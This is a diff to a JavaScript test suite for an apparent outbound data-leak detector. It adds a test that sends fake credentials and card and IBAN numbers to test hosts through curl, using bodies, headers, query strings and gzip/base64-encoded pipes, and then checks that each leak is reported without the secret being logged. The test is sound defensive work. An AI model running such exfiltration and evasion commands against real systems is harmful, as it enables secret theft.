@@ -153,6 +153,7 @@ describe('what must not go out', () => {
 			r.out + r.err);
 		for (const e of leaks(r)) {
 			assert.strictEqual(e.body.name, 'TICKETS');
+			assert.strictEqual(e.body.kind, 'secret');
 			assert.match(e.body.place,
 				/^(header X-Data|header name|header x-data|body|path|query|host|target)$/);
 		}
@@ -194,6 +195,48 @@ describe('what must not go out', () => {
 				s.headers['content-encoding'] === 'gzip').body, 'latin1'))
 				.toString(), 'nothing to see');
 		});
+
+	test('what looks like a credential is reported, and goes out', async () => {
+		const jwt = ['{"alg":"HS256"}', '{"sub":"1234567890"}', 'signature of it']
+			.map((t) => Buffer.from(t).toString('base64url')).join('.');
+		const texts = {
+			aws_key: `AKIA${'Q7'.repeat(8)}`, card: '4111 1111 1111 1111',
+			github_token: `ghp_${'a1'.repeat(18)}`,
+			iban: 'DE89370400440532013000', jwt,
+			openai_key: `sk-${'Ab1'.repeat(10)}`,
+			private_key: '-----BEGIN RSA PRIVATE KEY-----',
+			slack_token: `xoxb-${'1a'.repeat(12)}`,
+		};
+		const api = `https://api.test:${tls}/out`;
+		const free = `http://free.test:${plain}`;
+		const body = JSON.stringify({ text: `x\n${
+			Object.values(texts).join('\n')}` });
+		const r = await ran(`curl -d '${body}' ${api}/b\n` +
+			`curl -H 'X-Data: ${texts.jwt}' ${free}/h\n` +
+			`curl -H '${texts.aws_key}: ${texts.aws_key}' ${free}/n\n` +
+			`curl '${free}/?card=4111+1111+1111+1111&other=4111111111111112'\n` +
+			"python3 -c \"print('x' * 70000, '4111-1111', '1111-1111', " +
+			`'y' * 70000, sep='-')" | curl --data-binary @- ${free}/l\n` +
+			`echo ${zlib.gzipSync(`iban=${texts.iban}`).toString('base64')} | ` +
+			"base64 -d | curl --data-binary @- -H 'Content-Encoding: gzip' " +
+			`${free}/z\n`, policy(tickets));
+
+		assert.deepStrictEqual(seen.map((s) => s.url.split('?')[0]),
+			['/out/b', '/h', '/n', '/', '/l', '/z'], r.out + r.err);
+		assert.strictEqual(seen[0].body, body);
+		assert.deepStrictEqual(leaks(r).map((e) =>
+			[e.body.kind, e.body.name, e.body.place]), [
+			...Object.keys(texts).map((k) => ['pattern', k, 'body']),
+			['pattern', 'jwt', 'header X-Data'],
+			['pattern', 'aws_key', 'header name'],
+			['pattern', 'aws_key', 'header'],
+			['pattern', 'card', 'target'],
+			['pattern', 'card', 'body'], ['pattern', 'iban', 'body']]);
+		const log = JSON.stringify(leaks(r));
+
+		for (const text of Object.values(texts))
+			assert.ok(!log.includes(text));
+	});
 
 	test('a bait looks like a credential, and is noticed', async () => {
 		const document = policy({ ...tickets,
